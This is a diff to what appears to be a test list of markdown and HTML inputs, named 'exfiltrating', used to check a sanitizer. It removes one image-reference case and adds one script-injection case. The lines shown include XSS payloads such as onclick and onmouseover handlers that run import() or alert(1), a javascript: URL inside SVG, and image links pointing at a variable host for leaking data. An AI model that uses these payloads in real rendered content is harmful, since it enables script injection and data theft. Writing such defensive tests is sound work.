@@ -98,7 +98,6 @@ def exfiltrating() -> list[tuple[str, str]]:
         ("picture by reference", f"![logo][]\n\n[LOGO]:\n   {at}\n   'title'"),
         ("picture by reference", f"> [r]: {at}\n\n![x][r]"),
         ("picture by reference", f"[r]: {at}\n\nSee\n\n![ R ]"),
-        ("picture by reference", f"![x](y z)\n\n[x]: {at}"),
         ("picture by reference", f"![a][the  long\nname]\n\n[The long name]: {at}"),
         ("picture by reference", f"![a][{'long ' * 30}]\n\n[{'long ' * 30}]: {at}"),
         ("picture by reference", f"![a][b\\[c]\n\n[b\\[c]: {at}"),
@@ -154,6 +153,7 @@ def exfiltrating() -> list[tuple[str, str]]:
         ("scripts", f"<b {'a ' * 400} onclick='import(&quot;{bare}&quot;)'>x</b>"),
         ("scripts", f'<div a="{"b" * 600}\n\n[x](/onmouseover=import(`{bare}`)//)'),
         ("scripts", '<p a="\n\n[x](/onmouseover=alert(1)//)'),
+        ("scripts", "<div\n\n<!-- onmouseover=alert(1) -->"),
         ("scripts", "<div onclick={alert(1)}>x</div>"),
         ("scripts", "<svg><animate attributeName=href values=javascript:alert(1) /></svg>"),
     ]
